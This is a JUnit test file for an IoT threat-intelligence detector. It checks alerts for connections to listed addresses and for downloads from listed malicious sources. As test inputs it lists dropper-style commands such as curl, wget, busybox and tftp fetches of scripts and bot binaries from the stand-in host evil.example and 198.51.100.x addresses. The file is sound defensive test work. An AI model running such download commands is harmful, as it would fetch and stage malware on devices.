package io.vigil.detection.threatintel;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.vigil.detection.AlertHit;
import io.vigil.detection.Observation;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** IoT_TiConnection and IoT_PossibleMalware against positive and negative events. */
class ThreatIntelligenceTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static ThreatIntelligence intel;

    @BeforeAll
    static void lists(@TempDir Path folder) throws Exception {
        Path addresses = Files.writeString(folder.resolve("addresses.txt"), "203.0.113.66\n2001:db8:bad::/48\n");
        Path sources = Files.writeString(folder.resolve("sources.txt"), "# droppers\nevil.example\n198.51.100.0/24\n");
        intel = new ThreatIntelligence(ThreatList.read(List.of(addresses), false), ThreatList.read(List.of(sources), true));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"Out", "In"})
    void aConnectionWithAListedRemoteAddressInEitherDirection(String direction) {
        List<AlertHit> hits = intel.evaluate(connection("203.0.113.66", direction));
        assertThat(hits).extracting(h -> h.definition().alertType()).containsExactly("IoT_TiConnection");
        ObjectNode evidence = hits.get(0).evidence();
        assertThat(evidence.get("Remote Address").asText()).isEqualTo("203.0.113.66");
        assertThat(evidence.get("Remote Port").asText()).isEqualTo("4444");
        assertThat(evidence.get("Local Address").asText()).isEqualTo("10.0.0.5");
        assertThat(evidence.get("Local Port").asText()).isEqualTo("51000");
        assertThat(evidence.get("Protocol").asText()).isEqualTo("TCP");
        assertThat(evidence.get("ProcessId").asText()).isEqualTo("812");
        assertThat(evidence.get("Executable").asText()).isEqualTo("/usr/bin/curl");
        assertThat(evidence.get("Matched Entry").asText()).isEqualTo("203.0.113.66");
        assertThat(evidence.get("Threat List").asText()).endsWith("addresses.txt");
        assertThat(evidence.get("DeviceId").asText()).isEqualTo("dev-1");
        assertThat(hits.get(0).definition().severity()).isEqualTo("Medium");
        assertThat(hits.get(0).definition().displayName()).isEqualTo("Suspicious IP address communication");
    }

    @Test
    void otherAddressesAndOtherEventsAreNothing() {
        for (String address : List.of("203.0.113.67", "10.0.0.1", "2001:db8:bae::1", "", "?")) {
            assertThat(intel.evaluate(connection(address, "Out"))).as(address).isEmpty();
        }
        assertThat(intel.evaluate(connection("2001:db8:bad::9", "Out"))).hasSize(1);
        // A listed address in a command line is not a connection (and not a download either).
        assertThat(intel.evaluate(process("ping -c1 203.0.113.66"))).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        "curl -fsSL http://evil.example/x.sh -o /tmp/x.sh",
        "wget https://dl.cdn.evil.example/bot.arm7",
        "/usr/bin/wget -q -O- http://user@evil.example:8080/payload",
        "cd /tmp; busybox wget http://198.51.100.23/mips -O m",
        "sudo curl evil.example/i.sh",
        "tftp -g -r bot 198.51.100.7",
        "sh -c \"curl -s 'https://EVIL.example/a'\"",
        "fetch -o /tmp/a ftp://198.51.100.200/a",
        "aria2c http://files.evil.example/a.tar"})
    void aDownloadFromAListedSourceIsPossibleMalware(String commandLine) {
        List<AlertHit> hits = intel.evaluate(process(commandLine));
        assertThat(hits).as(commandLine).extracting(h -> h.definition().alertType()).containsExactly("IoT_PossibleMalware");
        ObjectNode evidence = hits.get(0).evidence();
        assertThat(evidence.get("CommandLine").asText()).isEqualTo(commandLine);
        assertThat(evidence.get("URL").asText()).isNotBlank();
        assertThat(evidence.get("Matched Entry").asText()).isIn("evil.example", "198.51.100.0/24");
        assertThat(evidence.get("DeviceId").asText()).isEqualTo("dev-1");
    }

    @Test
    void theUrlOfTheEvidenceIsTheOneThatMatched() {
        AlertHit hit = intel.evaluate(process("curl https://ok.example/a http://evil.example/b")).get(0);
        assertThat(hit.evidence().get("URL").asText()).isEqualTo("http://evil.example/b");
        assertThat(hit.evidence().get("Source Host").asText()).isEqualTo("evil.example");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        "curl https://notevil.example/x",
        "wget https://evil.example.org/x",
        "curl https://example.org/evil.example",
        "echo http://evil.example/x",
        "grep evil.example /var/log/syslog",
        "curl -s http://localhost/health",
        "wget -O evil.example.sh https://mirror.example/x",
        "ping 198.51.100.23",
        "curl http://198.51.101.1/a"})
    void otherCommandLinesAreNothing(String commandLine) {
        assertThat(intel.evaluate(process(commandLine))).as(commandLine).isEmpty();
    }

    @Test
    void withoutListsNothingIsRaised() {
        ThreatIntelligence none = new ThreatIntelligence(ThreatList.empty(), ThreatList.empty());
        assertThat(none.evaluate(connection("203.0.113.66", "Out"))).isEmpty();
        assertThat(none.evaluate(process("curl http://evil.example/x"))).isEmpty();
    }

    private static Observation connection(String remote, String direction) {
        ObjectNode item = JSON.createObjectNode().put("RemoteAddress", remote).put("RemotePort", "4444")
                .put("LocalAddress", "10.0.0.5").put("LocalPort", "51000").put("Protocol", "TCP").put("Direction", direction)
                .put("ProcessId", 812).put("Executable", "/usr/bin/curl").put("CommandLine", "curl http://x");
        return new Observation("hub", "dev-1", "e-1", "ConnectionCreate", Instant.now(), item);
    }

    private static Observation process(String commandLine) {
        ObjectNode item = JSON.createObjectNode().put("Executable", "/usr/bin/" + commandLine.split(" ")[0])
                .put("CommandLine", commandLine).put("ProcessId", 900).put("ParentProcessId", 1).put("UserId", "0")
                .put("UserName", "root");
        return new Observation("hub", "dev-1", "e-2", "ProcessCreate", Instant.now(), item);
    }
}
